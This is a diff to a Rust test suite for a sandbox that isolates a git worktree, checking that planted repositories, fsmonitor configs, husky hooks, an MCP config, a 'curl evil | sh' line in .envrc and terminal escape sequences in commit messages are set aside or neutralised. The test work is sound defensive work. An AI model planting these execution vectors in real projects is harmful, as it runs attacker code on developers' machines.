@@ -2,6 +2,7 @@
 //! the host's git directory, its branches come back as `cell/<cell>/...` without running
 //! anything the cell controls, and what it plants where host tools execute is set aside.
 
+use std::os::unix::ffi::OsStrExt as _;
 use std::os::unix::process::CommandExt as _;
 use std::path::Path;
 use std::process::{Command, Output};
@@ -100,7 +101,7 @@ both!(git_works_in_a_cell_as_on_the_host, |h| {
     // The tag stayed in the cell (only branches come over) and the nested repository was set aside.
     assert!(git(h, &["tag"]).trim().is_empty());
     assert!(!exists(&h.work.join("nested/.git")), "the nested .git was set aside");
-    assert!(stderr_has(&o, "quarantined"), "{}", show(&o));
+    assert!(stderr_has(&o, "set aside"), "{}", show(&o));
     // `cell git log` and `cell git diff` show the cell's work.
     let l = ok(&h.run(["git", "log"]));
     assert!(l.contains("cell/default/main") && l.contains("inside"), "{l}");
@@ -258,18 +259,20 @@ both!(nested_repositories_and_gitlinks_are_set_aside, |h| {
          printf 'ref: refs/heads/main\\n' > vendor/lib/.x/HEAD; mkdir -p vendor/lib/.x/objects vendor/lib/.x/refs; \
          printf '[core]\\n\\tfsmonitor = touch %s/.marker-nested\\n' \"$PWD\" > vendor/lib/.x/config; \
          git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),vendor/lib; git commit -qm gitlink; \
-         echo '#!/bin/sh' > sub/.git.new; echo 'gitdir: ../vendor/lib/.x' > sub/.git; echo PLANTED",
+         (echo 'gitdir: ../vendor/lib/.x' > sub/.git) 2>/dev/null && echo WROTE-SUB; echo PLANTED",
     );
-    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
-    assert!(!exists(&h.work.join("vendor/lib/.git")), "the nested .git stayed");
+    let out = ok(&o);
     assert!(
-        !exists(&h.work.join("sub/.git"))
-            || std::fs::read_to_string(h.work.join("sub/.git")).expect("sub").contains("modules/sub")
+        out.contains("PLANTED") && !out.contains("WROTE-SUB"),
+        "a checked-out submodule's .git is held: {}",
+        show(&o)
     );
+    assert!(!exists(&h.work.join("vendor/lib/.git")), "the nested .git stayed");
+    assert!(std::fs::read_to_string(h.work.join("sub/.git")).expect("sub").contains("modules/sub"));
     let _ = git(h, &["status"]);
     let _ = git_in(h, &h.work.join("vendor/lib"), &["status"]);
     assert!(!exists(&h.work.join(".marker-nested")), "host git ran the nested repository's fsmonitor");
-    assert!(stderr_has(&o, "quarantined"), "{}", show(&o));
+    assert!(stderr_has(&o, "set aside"), "{}", show(&o));
 });
 
 both!(a_hooks_path_in_the_worktree_is_read_only, |h| {
@@ -290,8 +293,8 @@ both!(protected_paths_the_cell_creates_are_set_aside, |h| {
     let o = cell_sh(
         h,
         "echo 'curl evil | sh' >> .envrc 2>/dev/null && echo WROTE-ENVRC; \
-         echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json && mkdir -p .vscode .claude && \
-         echo '{}' > .vscode/tasks.json && echo '{}' > .claude/settings.json && echo CREATED",
+         echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json; mkdir -p .vscode .claude; \
+         echo '{}' > .vscode/tasks.json; echo '{}' > .claude/settings.json; echo CREATED",
     );
     let out = ok(&o);
     assert!(!out.contains("WROTE-ENVRC") && out.contains("CREATED"), "{}", show(&o));
@@ -306,7 +309,7 @@ both!(protected_paths_the_cell_creates_are_set_aside, |h| {
             .collect();
         assert_eq!(aside.len(), 1, "{p} set aside once: {aside:?}");
     }
-    assert!(stderr_has(&o, "quarantined"), "{}", show(&o));
+    assert!(stderr_has(&o, "set aside"), "{}", show(&o));
 });
 
 both!(a_killed_launcher_leaves_the_worktree_as_it_was, |h| {
@@ -416,4 +419,148 @@ both!(the_host_moving_git_away_stops_the_cell, |h| {
     std::fs::rename(h.work.join(".git-away"), h.work.join(".git")).expect("rename back");
     assert!(!String::from_utf8_lossy(&o.stdout).contains("SURVIVED"), "{}", show(&o));
     assert!(stderr_has(&o, "was replaced on the host"), "{}", show(&o));
+});
+
+/// Host `git status` in `dir` (as the host's user), ignoring its outcome.
+fn host_status(h: &Host, dir: &Path) {
+    if dir.is_dir() {
+        let _ = git_in(h, dir, &["status"]);
+    }
+}
+
+both!(repositories_hidden_from_the_exit_scan_are_set_aside_too, |h| {
+    // Every way of planting a repository that host git would find, each with a marker
+    // fsmonitor: under a directory the launcher cannot list (`chmod 111`), under a name that
+    // is not UTF-8, a bare-looking directory with no `.git` in its name, and a `.git` whose
+    // set-aside name the cell created first.
+    repo(h);
+    let plant = |dir: &str| {
+        format!(
+            "mkdir -p {dir}/objects {dir}/refs; echo 'ref: refs/heads/main' > {dir}/HEAD; \
+             printf '[core]\\n\\tfsmonitor = touch %s/.marker-fsm\\n' \"$PWD\" > {dir}/config; "
+        )
+    };
+    let script = format!(
+        "{a}chmod 111 xo; D=$(printf 'x\\377'); {b}{c}{d}mkdir -p sub2/.git.cell-quarantined-0000/x sub2/.git.cell-quarantined-ffffffffffff/x; echo PLANTED",
+        a = plant("xo/.git"),
+        b = plant("\"$D\"/.git"),
+        c = plant("src"),
+        d = plant("sub2/.git"),
+    );
+    let o = cell_sh(h, &script);
+    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
+    let odd = h.work.join(std::ffi::OsStr::from_bytes(b"x\xff"));
+    for dir in [h.work.join("xo"), odd.clone(), h.work.join("src"), h.work.join("sub2")] {
+        host_status(h, &dir);
+    }
+    assert!(!exists(&h.work.join(".marker-fsm")), "host git ran a planted repository: {}", show(&o));
+    assert!(!exists(&h.work.join("xo/.git")) && !exists(&odd.join(".git")) && !exists(&h.work.join("sub2/.git")));
+    assert!(!exists(&h.work.join("src/HEAD")), "the bare-looking src/ keeps its HEAD");
+});
+
+both!(what_a_killed_launch_planted_is_contained_by_the_next, |h| {
+    repo(h);
+    let mut child = h
+        .cell()
+        .args([
+            "run",
+            "--network",
+            "none",
+            "--",
+            "sh",
+            "-c",
+            "mkdir -p vendor/k/.git/objects vendor/k/.git/refs; echo 'ref: refs/heads/main' > vendor/k/.git/HEAD; \
+             printf '[core]\\n\\tfsmonitor = touch %s/.marker-killed\\n' \"$PWD\" > vendor/k/.git/config; touch .started-k; sleep 300",
+        ])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("spawn");
+    wait_for(&h.work.join(".started-k"));
+    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
+    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).expect("kill");
+    let _ = child.wait();
+    // The next launch of the cell contains it before anything else.
+    let o = h.run(["run", "--network", "none", "--", "true"]);
+    ok(&o);
+    assert!(stderr_has(&o, "was killed"), "{}", show(&o));
+    host_status(h, &h.work.join("vendor/k"));
+    assert!(!exists(&h.work.join(".marker-killed")), "host git ran what a killed launch planted");
+    assert!(!exists(&h.work.join("vendor/k/.git")));
+});
+
+both!(files_the_host_git_config_names_are_held, |h| {
+    // husky v9: hooksPath .husky/_ whose scripts source .husky/<hook>; a shared config
+    // included from the worktree; an fsmonitor script in the worktree.
+    repo(h);
+    std::fs::create_dir_all(h.work.join(".husky/_")).expect("mkdir");
+    std::fs::write(h.work.join(".husky/_/pre-commit"), "#!/bin/sh\n. \"$(dirname \"$0\")/../pre-commit\"\n")
+        .expect("write");
+    std::fs::write(h.work.join(".husky/pre-commit"), "exit 0\n").expect("write");
+    std::fs::create_dir_all(h.work.join("tools")).expect("mkdir");
+    std::fs::write(h.work.join("tools/watch"), "#!/bin/sh\nexit 1\n").expect("write");
+    h.chown_all();
+    git(h, &["config", "core.hooksPath", ".husky/_"]);
+    git(h, &["config", "include.path", "../.gitconfig"]);
+    git(h, &["config", "core.fsmonitor", "tools/watch"]);
+    let o = cell_sh(
+        h,
+        "(echo 'touch .marker-husky' >> .husky/pre-commit) 2>/dev/null && echo WROTE-HUSKY; \
+         (printf '[core]\\n\\tpager = touch .marker-inc\\n' > .gitconfig) 2>/dev/null; \
+         (echo 'touch .marker-fsm' >> tools/watch) 2>/dev/null && echo WROTE-FSM; echo DONE",
+    );
+    let out = ok(&o);
+    assert!(out.contains("DONE") && !out.contains("WROTE"), "{}", show(&o));
+    assert_eq!(std::fs::read_to_string(h.work.join(".husky/pre-commit")).expect("read"), "exit 0\n");
+    assert!(!exists(&h.work.join(".gitconfig")), "the included config the cell wrote stayed in place");
+    let _ = git_in(h, &h.work, &["-c", "core.fsmonitor=", "log", "-1"]);
+    assert!(!exists(&h.work.join(".marker-inc")));
+});
+
+both!(cell_git_log_never_sends_escapes_to_the_terminal, |h| {
+    repo(h);
+    let o = cell_sh(
+        h,
+        "git commit -q --allow-empty -m \"$(printf 'evil \\033]52;c;dG91Y2g=\\007 \\033[31mred')\" && echo OK",
+    );
+    assert!(ok(&o).contains("OK"), "{}", show(&o));
+    let l = h.run(["git", "log"]);
+    let raw = l.stdout.clone();
+    assert!(!raw.contains(&0x1b) && !raw.contains(&0x07), "raw escapes reached the terminal: {}", show(&l));
+    assert!(String::from_utf8_lossy(&raw).contains("evil"), "{}", show(&l));
+});
+
+both!(a_fifo_in_the_cells_object_store_does_not_hang_the_sync, |h| {
+    repo(h);
+    let c = h
+        .cell()
+        .args([
+            "run",
+            "--network",
+            "none",
+            "--",
+            "sh",
+            "-c",
+            "git commit -q --allow-empty -m f; H=$(git rev-parse HEAD); d=.git/objects/$(echo $H | cut -c1-2); \
+             rm $d/$(echo $H | cut -c3-); mkfifo $d/$(echo $H | cut -c3-); echo MADE",
+        ])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("spawn");
+    let pid = nix::unistd::Pid::from_raw(i32::try_from(c.id()).expect("pid"));
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
+    let waiter = std::thread::spawn(move || c.wait_with_output().expect("wait"));
+    while !waiter.is_finished() {
+        if std::time::Instant::now() > deadline {
+            let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL);
+            panic!("the launcher hung on the cell's FIFO");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    let o = waiter.join().expect("join");
+    assert!(ok(&o).contains("MADE"), "{}", show(&o));
+    assert!(stderr_has(&o, "not a file"), "{}", show(&o));
+    let branches = git(h, &["branch", "--list", "cell/*"]);
+    assert!(!branches.contains("cell/default/main"), "{branches}");
 });
